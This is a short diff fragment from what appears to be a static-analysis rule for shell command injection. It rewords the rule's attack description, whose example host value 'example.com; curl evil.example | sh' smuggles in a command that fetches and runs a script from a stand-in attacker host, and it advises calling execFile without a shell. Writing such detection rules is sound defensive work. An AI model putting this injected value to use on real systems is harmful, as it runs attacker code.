@@ -109,7 +109,8 @@ RULE = FlowRule(
 
 Where a text with a value in it is run and nothing shows whose the value is, the finding is tentative.
 """,
-    attack="The host `example.com; curl evil.example | sh` runs a program of the attacker.",
+    attack="Names the host `example.com; curl evil.example | sh`, and the shell runs a program of the "
+    "attacker's.",
     advice='Use `execFile("ping", ["-c", "1", host])`, which starts no shell.',
     bad=(
         """\
